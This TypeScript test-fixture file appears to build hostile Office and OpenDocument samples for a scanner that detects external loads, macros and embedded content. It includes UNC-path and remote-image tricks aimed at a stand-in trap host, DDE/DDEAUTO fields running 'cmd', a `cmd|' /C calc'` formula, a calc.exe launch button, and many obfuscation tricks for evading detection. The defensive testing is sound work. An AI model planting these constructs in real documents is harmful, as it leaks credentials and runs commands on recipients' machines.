import type { Hostile } from './hostile-files.ts'
import {
  field,
  fieldRuns,
  formula,
  openSheet,
  openText,
  paragraph,
  relationships,
  slides,
  wordDocument,
  workbook,
} from './office-files.ts'
import { office } from './sample-files.ts'
import { trap } from './trap.ts'

// Ways in which an Office or OpenDocument file loads something from elsewhere.
// Most contain the address of the trap (trap.ts), which counts connections.

const { host } = trap
const web = `http://${host}/a`
const paths = [
  [String.raw`file:///\\${host}\share\a`, 'a UNC path in a file: address'],
  [String.raw`\\${host}\share\a`, 'a UNC path'],
  [`//${host}/share/a`, 'a UNC path with slashes'],
  [String.raw`/\${host}\share\a`, 'a UNC path with both slashes'],
  [`file:////${host}/share/a`, 'a UNC path with four slashes in a file: address'],
  [`file:///%5C%5C${host}/share/a`, 'a UNC path in percent-encoding'],
  [`&#104;ttp://${host}/a`, 'a character reference for a letter'],
  [`ht&#x74;p&#58;//${host}/a`, 'character references for letters and the colon'],
  [`&#9;http://${host}/a`, 'a tab before the address'],
  [`\n http://${host}/a`, 'a line break before the address'],
  [`mhtml:http://${host}/a!x-usc:http://${host}/a`, 'another scheme before the address'],
  [`ftp://${host}/a`, 'FTP'],
] as const

const embed = (what: string) => paragraph(`<w:drawing><a:blip ${what}/></w:drawing>`)
const linked = (type: string, target: string, body = embed('r:link="rId1"')) =>
  wordDocument(body, [[type, target, 'External']])
const settings = (type: string, target: string) =>
  wordDocument(paragraph('<w:t>x</w:t>'), [], {
    'word/_rels/settings.xml.rels': relationships([type, target, 'External']),
  })
const chosen = (choice: string, fallback: string) =>
  `<mc:AlternateContent><mc:Choice Requires="wps">${choice}</mc:Choice><mc:Fallback>${fallback}</mc:Fallback>` +
  '</mc:AlternateContent>'
const coded = (text: string, element = 'instrText') => `<w:r><w:${element}>${text}</w:${element}></w:r>`
/** More bytes than the check keeps in memory for one part. */
const far = ' '.repeat(33 * 1024 ** 2)

export const outsideWord: readonly Hostile[] = [
  ...paths.flatMap(([address, how]): Hostile[] => [
    [`a linked image: ${how}`, linked('image', address), 'a.docx', 'elsewhere'],
    [`a linked object: ${how}`, linked('oleObject', address), 'a.docx', 'elsewhere'],
  ]),
  ...paths
    .slice(0, 6)
    .map(([address, how]): Hostile => [
      `a template: ${how}`,
      settings('attachedTemplate', address),
      'a.docx',
      'elsewhere',
    ]),
  ...paths
    .slice(0, 6)
    .map(([address, how]): Hostile => [
      `a hyperlink: ${how}`,
      wordDocument('<w:p><w:hyperlink r:id="rId1"/></w:p>', [['hyperlink', address, 'External']]),
      'a.docx',
      'elsewhere',
    ]),
  ['an address without a target mode', wordDocument(embed('r:link="rId1"'), [['image', web]]), 'a.docx', 'elsewhere'],
  ['a local image', linked('image', 'file:///C:/logo.png'), 'a.docx', 'elsewhere'],
  [
    'an image through the relationship of a hyperlink',
    wordDocument(embed('r:link="rId1"'), [['hyperlink', web, 'External']]),
    'a.docx',
    'elsewhere',
  ],
  [
    'an image with the hyperlink type of another namespace',
    linked('http://example.org/relationships/hyperlink', web),
    'a.docx',
    'elsewhere',
  ],
  [
    'an image in a strict Open XML document',
    linked('http://purl.oclc.org/ooxml/officeDocument/relationships/image', web),
    'a.docx',
    'elsewhere',
  ],
  ['part of another document', linked('subDocument', web, ''), 'a.docx', 'elsewhere'],
  ['a frame', settings('frame', web), 'a.docx', 'elsewhere'],
  ['a style sheet (XSLT) for saving', settings('transform', web), 'a.docx', 'elsewhere'],
  ['the data source of a mail merge', settings('mailMergeSource', 'file:///C:/people.xlsx'), 'a.docx', 'elsewhere'],
  [
    'relative addresses with a base on the internet',
    wordDocument('', [], {
      'word/_rels/document.xml.rels': relationships(['image', 'a.png']).replace(' xmlns=', ` xml:base="${web}" xmlns=`),
    }),
    'a.docx',
    'elsewhere',
  ],
  ['VML with an address', wordDocument(paragraph(`<v:imagedata src="${web}"/>`)), 'a.docx', 'elsewhere'],
  ['VML with its original address', wordDocument(paragraph(`<v:imagedata o:href="${web}"/>`)), 'a.docx', 'elsewhere'],
  ['VML with a pattern', wordDocument(paragraph(`<v:fill src="${web}"/>`)), 'a.docx', 'elsewhere'],
  [
    'VML in a part with an unusual name',
    wordDocument('', [], { 'word/media/a.bin': `<xml xmlns:v="v"><v:imagedata src="${web}"><br></xml>` }),
    'a.docx',
    'elsewhere',
  ],
  ['a linked object by its type', wordDocument(paragraph('<o:OLEObject Type="Link"/>')), 'a.docx', 'elsewhere'],
  [
    'an SVG with an image',
    wordDocument('', [], { 'word/media/a.svg': `<svg xmlns:x="x"><image x:href="#" href="${web}"/></svg>` }),
    'a.docx',
    'elsewhere',
  ],
  [
    'an SVG with a style',
    wordDocument('', [], { 'word/media/a.svg': `<svg><style>@import "${web}";</style></svg>` }),
    'a.docx',
    'elsewhere',
  ],
  ['an add-in', wordDocument('', [], { 'word/webextensions/a.xml': '<we:webextension/>' }), 'a.docx', 'elsewhere'],
  ['INCLUDEPICTURE', wordDocument(field([`INCLUDEPICTURE "${web}" \\d`])), 'a.docx', 'elsewhere'],
  ['INCLUDEPICTURE in lower case', wordDocument(field([` includepicture ${web}`])), 'a.docx', 'elsewhere'],
  [
    'INCLUDEPICTURE with a UNC path',
    wordDocument(field([`INCLUDEPICTURE "\\\\\\\\${host}\\\\share\\\\a.png"`])),
    'a.docx',
    'elsewhere',
  ],
  [
    'INCLUDEPICTURE with the result of another field',
    wordDocument(field(['INCLUDEPICTURE ', fieldRuns(['DOCPROPERTY x'])])),
    'a.docx',
    'elsewhere',
  ],
  ['INCLUDETEXT', wordDocument(field(['INCLUDETEXT "C:\\\\secret.docx"'])), 'a.docx', 'elsewhere'],
  ['LINK', wordDocument(field(['LINK Excel.Sheet.12 ', `"${web}"`])), 'a.docx', 'elsewhere'],
  ['IMPORT', wordDocument(field([`IMPORT ${web}`])), 'a.docx', 'elsewhere'],
  ['RD', wordDocument(field([`RD "${web}"`])), 'a.docx', 'elsewhere'],
  ['DATABASE', wordDocument(field(['DATABASE \\d "C:\\\\a.mdb"'])), 'a.docx', 'elsewhere'],
  ['a field code in German', wordDocument(field([`EINFÜGENGRAFIK "${web}"`])), 'a.docx', 'elsewhere'],
  ['HYPERLINK with a UNC path', wordDocument(field([`HYPERLINK "\\\\\\\\${host}\\\\a"`])), 'a.docx', 'elsewhere'],
  ['DDE in two runs', wordDocument(field(['D', 'DE excel ', '"a"'])), 'a.docx', 'macro'],
  ['DDEAUTO in runs of one letter', wordDocument(field([...'DDEAUTO cmd'])), 'a.docx', 'macro'],
  [
    'DDEAUTO in two paragraphs',
    wordDocument(
      field(['DDE', '</w:p><w:p>', 'AUTO x']).replace(
        /<w:r><w:instrText[^>]*>(<\/w:p><w:p>)<\/w:instrText><\/w:r>/,
        '$1',
      ),
    ),
    'a.docx',
    'macro',
  ],
  ['DDE partly as text', wordDocument(field(['D', '<w:r><w:t>DE</w:t></w:r>', ' excel a'])), 'a.docx', 'macro'],
  ['DDE partly deleted', wordDocument(field(['D', coded('DE', 'delInstrText'), ' excel'])), 'a.docx', 'macro'],
  [
    'DDE in the choice of an alternative',
    wordDocument(field(['D', chosen(coded('DE'), coded('x')), ' excel'])),
    'a.docx',
    'macro',
  ],
  [
    'DDE in the fallback of an alternative',
    wordDocument(field(['D', chosen(coded('x'), coded('DE')), ' excel'])),
    'a.docx',
    'macro',
  ],
  [
    'DDE inside a harmless field',
    wordDocument(field(['IF ', fieldRuns(['DDE ', 'excel']), ' = 1'])),
    'a.docx',
    'macro',
  ],
  [
    'DDE without an end',
    wordDocument(field(['DDE excel']).replaceAll(/<w:fldChar w:fldCharType="(separate|end)"\/>/g, '')),
    'a.docx',
    'macro',
  ],
  ['DDE in a simple field', wordDocument('<w:fldSimple w:instr=" &#68;DEAUTO cmd"/>'), 'a.docx', 'macro'],
  [
    'DDE as the result of a simple field',
    wordDocument(field(['<w:fldSimple w:instr="QUOTE DDEAUTO"><w:r><w:t>x</w:t></w:r></w:fldSimple>', ' cmd'])),
    'a.docx',
    'macro',
  ],
  ['DDE in quotes', wordDocument(field(['"DDEAUTO" cmd'])), 'a.docx', 'macro'],
  ['QUOTE of character codes', wordDocument(field(['QUOTE 68 68 69 65 85 84 79'])), 'a.docx', 'macro'],
  [
    'QUOTE as the whole code of a field',
    wordDocument(field([fieldRuns(['QUOTE "DDEAUTO"']), ' cmd'])),
    'a.docx',
    'macro',
  ],
  [
    'QUOTE as the end of a field code',
    wordDocument(field(['DD', fieldRuns(['QUOTE "E"']), ' cmd'])),
    'a.docx',
    'macro',
  ],
  ['DDE after 33 MB of spaces', () => wordDocument(`${far}${field(['DDE excel'])}`), 'a.docx', 'macro'],
  [
    'an embedded object that is a link (URL moniker)',
    wordDocument('', [], {
      'word/embeddings/oleObject1.bin': Buffer.from(
        `d0cf11e0a1b11ae1${'00'.repeat(600)}e0c9ea79f9bace118c8200aa004ba90b`,
        'hex',
      ),
    }),
    'a.docx',
    'elsewhere',
  ],
  [
    'a part that Word imports (altChunk)',
    linked('aFChunk', 'a.docx', '<w:altChunk r:id="rId1"/>'),
    'a.docx',
    'embedded',
  ],
  ['a document in one XML file', wordDocument('', [], { 'word/a.xml': '<pkg:binaryData/>' }), 'a.docx', 'embedded'],
  [
    'an image in a part whose name is percent-encoded',
    office('word/document.xml', {
      'word/%66ooter1.xml': '<w:ftr><a:blip r:link="rId1"/></w:ftr>',
      'word/_rels/Footer1.xml.rels': relationships(['hyperlink', web, 'External']),
    }),
    'a.docx',
    'elsewhere',
  ],
  ['an RTF as a part of a DOCX', wordDocument('', [], { 'word/afchunk.rtf': '{\\rtf1 x}' }), 'a.docx', 'embedded'],
  [
    'an MHTML page as a part of a DOCX',
    wordDocument('', [], { 'word/afchunk.mht': 'MIME-Version: 1.0\r\n\r\n<html/>' }),
    'a.docx',
    'embedded',
  ],
]

const button = (what: string) => `<a:hlinkClick r:id="rId1" ${what}/>`
export const outsideOthers: readonly Hostile[] = [
  ['a linked image on a slide', slides('<a:blip r:link="rId1"/>', [['image', web, 'External']]), 'a.pptx', 'elsewhere'],
  [
    'a linked image in a workbook',
    workbook('', {
      'xl/drawings/_rels/drawing1.xml.rels': relationships(['image', String.raw`file:///\\${host}\a`, 'External']),
    }),
    'a.xlsx',
    'elsewhere',
  ],
  [
    'a video on a website',
    slides('<a:videoFile r:link="rId1"/>', [['video', `https://${host}/embed/a`, 'External']]),
    'a.pptx',
    'elsewhere',
  ],
  ['a linked object on a slide', slides('<p:oleObj><p:link updateAutomatic="1"/></p:oleObj>'), 'a.pptx', 'elsewhere'],
  [
    'a button that starts a program',
    slides(button('action="ppaction://program"'), [['hyperlink', 'calc.exe', 'External']]),
    'a.pptx',
    'macro',
  ],
  [
    'a link to another workbook',
    workbook('', { 'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook r:id="rId1"/></externalLink>' }),
    'a.xlsx',
    'elsewhere',
  ],
  [
    'a link to the file of another workbook',
    workbook('', {
      'xl/externalLinks/_rels/externalLink1.xml.rels': relationships(['externalLinkPath', 'Budget.xlsx', 'External']),
    }),
    'a.xlsx',
    'elsewhere',
  ],
  [
    'a DDE link in a workbook',
    workbook('', { 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }),
    'a.xlsx',
    'macro',
  ],
  [
    'a web page as the data source of a table',
    workbook('', {
      'xl/connections.xml': `<connections><connection id="1"><webPr url="${web}"/></connection></connections>`,
    }),
    'a.xlsx',
    'elsewhere',
  ],
  [
    'a database as the data source of a table',
    workbook('', {
      'xl/connections.xml':
        '<connections><connection id="1" type="1"><dbPr connection="DSN=x"/></connection></connections>',
    }),
    'a.xlsx',
    'elsewhere',
  ],
  [
    'a text file as the data source of a table',
    workbook('', {
      'xl/connections.xml':
        '<connections><connection id="1" type="6"><textPr sourceFile="a.csv"/></connection></connections>',
    }),
    'a.xlsx',
    'elsewhere',
  ],
  [
    'an image that Excel loads from the internet',
    workbook('', { 'xl/richData/rdRichValueWebImage.xml': '<webImagesSrd><webImageSrd/></webImagesSrd>' }),
    'a.xlsx',
    'elsewhere',
  ],
  ['WEBSERVICE', workbook(formula(`_xlfn.WEBSERVICE("${web}")`)), 'a.xlsx', 'elsewhere'],
  ['IMAGE in lower case', workbook(formula(`1+_xlfn.image ("${web}")`)), 'a.xlsx', 'elsewhere'],
  ['WEBSERVICE split by an XML comment', workbook(formula(`WEB<!-- -->SERVICE("${web}")`)), 'a.xlsx', 'elsewhere'],
  [
    'WEBSERVICE partly in a CDATA section',
    workbook(formula(`WEB<![CDATA[SERVICE("${web}")]]>`)),
    'a.xlsx',
    'elsewhere',
  ],
  [
    'a page that opens when the mouse is over a shape',
    slides('<a:hlinkMouseOver r:id="rId1"/>', [['hyperlink', web, 'External']]),
    'a.pptx',
    'elsewhere',
  ],
  [
    'WEBSERVICE in a defined name',
    workbook('', {
      'xl/workbook.xml': `<workbook><definedName name="x">WEBSERVICE("${web}")</definedName></workbook>`,
    }),
    'a.xlsx',
    'elsewhere',
  ],
  [
    'WEBSERVICE in conditional formatting',
    workbook(`<cfRule><formula>WEBSERVICE("${web}")=1</formula></cfRule>`),
    'a.xlsx',
    'elsewhere',
  ],
  ['RTD', workbook(formula('RTD("x.y",,"z")')), 'a.xlsx', 'macro'],
  ['a formula that starts a program', workbook(formula('cmd|&apos; /C calc&apos;!A0')), 'a.xlsx', 'macro'],
  [
    'a formula with a cell of another file',
    workbook(formula(`&apos;\\\\${host}\\share\\[a.xlsx]Sheet&apos;!A1`)),
    'a.xlsx',
    'elsewhere',
  ],
  ['HYPERLINK to a UNC path', workbook(formula(`HYPERLINK("\\\\${host}\\a","Open")`)), 'a.xlsx', 'elsewhere'],
  [
    'a chart with data from another file',
    slides('', [], {
      'ppt/charts/_rels/chart1.xml.rels': relationships(['oleObject', String.raw`file:///C:\Budget.xlsx`, 'External']),
    }),
    'a.pptx',
    'elsewhere',
  ],
]

const hrefs = [web, ...paths.slice(0, 6).map(([address]) => address), '../a.png', '/srv/a.png', './../a.png']
const elements = [
  'draw:image',
  'draw:object',
  'draw:object-ole',
  'draw:plugin',
  'draw:floating-frame',
  'text:section-source',
  'table:table-source',
  'table:cell-range-source',
  'svg:font-face-uri',
  'style:background-image',
  'meta:auto-reload',
  'form:form',
]
export const outsideOpen: readonly Hostile[] = [
  ...hrefs.map((href): Hostile => [
    `draw:image at ${href}`,
    openText(`<draw:image xlink:href="${href}"/>`),
    'a.odt',
    'elsewhere',
  ]),
  ...elements.map((name): Hostile => [name, openText(`<${name} xlink:href="${web}"/>`), 'a.odt', 'elsewhere']),
  [
    'draw:image with other prefixes',
    openText(`<d:image xmlns:d="x" l:href="${web}" xmlns:l="http://www.w3.org/1999/xlink"/>`),
    'a.odt',
    'elsewhere',
  ],
  [
    'draw:image with a character reference for a letter',
    openText(`<draw:image xlink:href="&#104;ttp://${host}/a"/>`),
    'a.odt',
    'elsewhere',
  ],
  [
    'draw:image in the styles',
    openText('', { 'styles.xml': `<office:styles><draw:fill-image xlink:href="${web}"/></office:styles>` }),
    'a.odt',
    'elsewhere',
  ],
  [
    'a template from the internet',
    openText('', { 'meta.xml': `<office:meta><meta:template xlink:href="${web}"/></office:meta>` }),
    'a.odt',
    'elsewhere',
  ],
  ['a form that loads its data', openText(`<xforms:instance src="${web}"/>`), 'a.odt', 'elsewhere'],
  ['a link to a UNC path', openText(`<text:a xlink:href="file://${host}/a">x</text:a>`), 'a.odt', 'elsewhere'],
  ['a link that runs a macro', openText('<text:a xlink:href="vnd.sun.star.script:A.B">x</text:a>'), 'a.odt', 'macro'],
  [
    'a menu item that runs a script',
    openText('', { 'Configurations2/menubar/a.xml': '<menu:item menu:id="vnd.sun.star.script:a$b?location=share"/>' }),
    'a.odt',
    'macro',
  ],
  ['a button with an image', openText(`<form:button form:image-data="${web}"/>`), 'a.odt', 'elsewhere'],
  [
    'a named range in another spreadsheet',
    openSheet('<table:named-range table:cell-range-address="&apos;file:///a.ods&apos;#$Sheet1.A1"/>'),
    'a.ods',
    'elsewhere',
  ],
  ['a DDE link', openText('<text:dde-connection-decl office:dde-application="soffice"/>'), 'a.odt', 'macro'],
  ['an applet', openText('<draw:applet draw:code="a"/>'), 'a.odt', 'macro'],
  [
    'a colour palette on the internet',
    openText('', { 'settings.xml': `<config:config-item config:name="ColorTableURL">${web}</config:config-item>` }),
    'a.odt',
    'elsewhere',
  ],
  [
    'WEBSERVICE in a spreadsheet',
    openSheet(`<table:table-cell table:formula="of:=WEBSERVICE(&quot;${web}&quot;)"/>`),
    'a.ods',
    'elsewhere',
  ],
  [
    'DDE in a spreadsheet',
    openSheet('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)"/>'),
    'a.ods',
    'macro',
  ],
  [
    'a formula with a cell of another spreadsheet',
    openSheet(`<table:table-cell table:formula="of:=[&apos;${web}.ods&apos;#$Sheet1.A1]"/>`),
    'a.ods',
    'elsewhere',
  ],
  [
    'a table with another spreadsheet as its source',
    openSheet(`<table:table-source xlink:href="${web}"/>`),
    'a.ods',
    'elsewhere',
  ],
]

export const outside: readonly Hostile[] = [...outsideWord, ...outsideOthers, ...outsideOpen]
